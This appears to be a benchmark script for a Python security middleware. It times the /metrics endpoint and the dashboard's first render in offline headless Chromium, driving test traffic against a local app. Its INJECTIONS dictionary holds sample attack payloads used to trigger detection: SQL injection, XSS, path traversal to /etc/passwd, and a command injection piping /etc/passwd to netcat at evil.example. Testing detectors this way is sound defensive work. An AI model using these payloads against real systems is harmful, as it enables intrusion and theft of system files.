"""Figures of the metrics and the dashboard (issue 20).

* ``/metrics`` render time with every metric populated: an app under the full
  stack (audit, incidents, policies, decisions, lockouts, both optional providers)
  after traffic over 50 route templates, every block family, alerts of several
  types and levels, incidents contained and closed; the median of ``GET /metrics``
  served in process (the snapshot from the state, the collector, the encoder).
* The page's first render: headless Chromium (offline) loads the dashboard from a
  real uvicorn with the key already in the tab's session storage; the figure is the
  page's own ``performance.now()`` when the first data is drawn (navigation start to
  tiles, charts and alerts on screen), median of several loads.
* The request path's cost is ``bench/overhead.py --instructions`` (the GET's ratio).

Usage::

    python bench/metrics.py [--scrapes 50] [--loads 7] [--screenshot docs/dashboard.png]
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import inspect
import json
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

KEY = "bench-metrics-admin-key-0123456789"
INJECTIONS = {
    "sqli": "1' UNION SELECT password FROM users--",
    "xss": "<script>alert(document.cookie)</script>",
    "traversal": "../../../../etc/passwd",
    "cmdi": "; cat /etc/passwd | nc evil.example 4444",
}


def build_app(tmp: Path) -> Any:
    from fastapi import FastAPI

    from pynomaly_security import (
        SecuritySettings,
        add_security_endpoints,
        setup_security_middleware,
    )

    app = FastAPI()
    for i in range(50):

        async def endpoint(item_id: int, q: str = "") -> dict[str, Any]:
            return {"id": item_id, "q": q}

        app.add_api_route(f"/r{i}/{{item_id}}", endpoint, methods=["GET"])
    settings = SecuritySettings(
        _env_file=None,  # type: ignore[call-arg]
        development_mode=True,
        admin_api_key=KEY,
        audit_db_url=f"sqlite:///{tmp / 'audit.db'}",
        login_paths=["/login"],
    )
    stack = setup_security_middleware(app, settings=settings)

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("a 5xx for server_errors_total")

    @app.post("/login")
    async def login() -> None:
        from fastapi import HTTPException

        raise HTTPException(status_code=401, detail="bad credentials")

    add_security_endpoints(app)
    return app, stack


async def _maybe(value: Any) -> Any:
    return await value if inspect.isawaitable(value) else value


async def populate(app: Any, stack: Any) -> None:
    """Traffic and state enough for every family to have samples."""
    import httpx

    from pynomaly_security import SecurityAlert, ThreatLevel

    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://localhost") as client:
        await client.get("/boom")
        for i in range(50):
            for _ in range(4):
                await client.get(f"/r{i}/1")
            for payload in INJECTIONS.values():
                await client.get(f"/r{i}/1", params={"q": payload})
        for _ in range(8):
            await client.post("/login", json={"username": "alice", "password": "guess"})
        for n in range(40):
            await client.get(f"/scanner-{n}")
    for n, level in enumerate(ThreatLevel):
        for kind in ("custom_a", "custom_b", "custom_c"):
            await stack.security_monitor.raise_alert(SecurityAlert(kind, level, f"bench {n}"))
    incidents = stack.incidents
    for n in range(20):
        incident = await _maybe(incidents.create_incident(f"bench incident {n}", severity="high"))
        if n % 2:
            await _maybe(incidents.update_status(incident, "triaged"))
            await _maybe(incidents.update_status(incident, "contained"))
    if stack.decisions is not None:
        for n in range(20):
            await stack.decisions.add("ip", f"203.0.113.{n}", "ban", reason="bench")
    await stack.audit_logger.flush()
    await stack.audit_logger.verify()
    stack.metrics.register_provider("compliance", lambda: {"soc2": 91.0, "pci_dss": 74.0})
    stack.metrics.register_provider("vulnerabilities", lambda: {"critical": 1, "high": 3})


async def render_times(scrapes: int) -> tuple[float, int, int]:
    """Median ms of GET /metrics (in process), the exposition's size and family count."""
    import httpx
    from prometheus_client.parser import text_string_to_metric_families

    with tempfile.TemporaryDirectory() as tmp:
        app, stack = build_app(Path(tmp))
        async with app.router.lifespan_context(app):
            await populate(app, stack)
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://localhost") as c:
                times, text = [], ""
                for _ in range(scrapes):
                    t0 = time.perf_counter()
                    response = await c.get("/metrics", headers={"X-API-Key": KEY})
                    times.append((time.perf_counter() - t0) * 1000)
                    text = response.text
            families = list(text_string_to_metric_families(text))
            empty = [f.name for f in families if not f.samples]
            if empty:
                print(f"families without samples: {empty}")
            return statistics.median(times), len(text), len(families)


def _chromium(chromium: str, profile: Path) -> tuple[subprocess.Popen[bytes], int]:
    """Headless Chromium, offline (only 127.0.0.1 resolves); the process and DevTools port."""
    proc = subprocess.Popen(
        [
            chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            f"--user-data-dir={profile}",
            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
            "--remote-debugging-address=127.0.0.1", "--remote-debugging-port=0",
            "about:blank",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    active = profile / "DevToolsActivePort"
    while not (active.exists() and active.read_text().strip()):
        time.sleep(0.1)
    return proc, int(active.read_text().split()[0])


def _serve(app: Any) -> tuple[str, Any, threading.Thread, socket.socket]:
    import uvicorn

    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="on"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    return f"http://127.0.0.1:{sock.getsockname()[1]}", server, thread, sock


async def first_render(loads: int) -> tuple[list[float], bytes]:
    """The page's render times (ms) in headless Chromium, offline, key in session storage,
    and a PNG screenshot of the last load."""
    import shutil

    from tests.browser._cdp import open_page

    chromium = shutil.which("chromium")
    if chromium is None:
        sys.exit("chromium is not installed")
    with tempfile.TemporaryDirectory() as tmp:
        # The example app (make demo) after the README's walk-through.
        from examples.app import create_app
        from pynomaly_security import SecuritySettings

        settings = SecuritySettings(
            _env_file=None,  # type: ignore[call-arg]
            development_mode=True,
            admin_api_key=KEY,
            audit_db_url=f"sqlite:///{Path(tmp) / 'demo-audit.db'}",
        )
        app = create_app(settings)
        base, server, thread, sock = _serve(app)
        try:
            # Traffic through the real server's loop (the stack's state belongs to it).
            import httpx

            async with httpx.AsyncClient(base_url=base.replace("127.0.0.1", "localhost")) as c:
                for _ in range(30):
                    await c.get("/items")
                    await c.get("/items/1")
                await c.get("/search", params={"q": INJECTIONS["sqli"]})
                await c.get("/search", params={"q": INJECTIONS["xss"]})
                for _ in range(5):
                    await c.post("/login", json={"username": "alice", "password": "guess"})
                await c.post("/login", json={"username": "alice", "password": "wonderland-2024"})
            proc, port = _chromium(chromium, Path(tmp) / "profile")
            try:
                times: list[float] = []
                async with open_page(port) as page:
                    await page.call(
                        "Emulation.setDeviceMetricsOverride",
                        width=1280, height=1400, deviceScaleFactor=1, mobile=False,
                    )  # fmt: skip
                    await page.goto(base + "/api/security/dashboard")
                    await page.evaluate(
                        f"sessionStorage.setItem('pynomaly-security-admin-key', {json.dumps(KEY)})"
                    )
                    for _ in range(loads):
                        await page.goto(base + "/api/security/dashboard")
                        await page.wait_for("document.body.dataset.loaded === '1'")
                        times.append(float(await page.evaluate("document.body.dataset.renderMs")))
                    shot = await page.call("Page.captureScreenshot", format="png")
                return times, base64.b64decode(shot["data"])
            finally:
                proc.terminate()
                proc.wait(timeout=10)
        finally:
            server.should_exit = True
            thread.join(timeout=15)
            sock.close()


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawTextHelpFormatter
    )
    parser.add_argument("--scrapes", type=int, default=50)
    parser.add_argument("--loads", type=int, default=7)
    parser.add_argument("--screenshot", type=Path, default=None)
    args = parser.parse_args()
    import structlog

    structlog.configure(logger_factory=structlog.ReturnLoggerFactory())  # quiet
    median, size, families = asyncio.run(render_times(args.scrapes))
    print(
        f"GET /metrics, every metric populated: median {median:.1f} ms over {args.scrapes} "
        f"scrapes ({families} families, {size:,} bytes; target <= 20 ms)"
    )
    times, png = asyncio.run(first_render(args.loads))
    if args.screenshot is not None:
        args.screenshot.write_bytes(png)
    print(
        f"dashboard first render (navigation start to data drawn): median "
        f"{statistics.median(times):.0f} ms over {len(times)} loads, max {max(times):.0f} ms "
        "(target <= 300 ms)"
    )


if __name__ == "__main__":
    main()
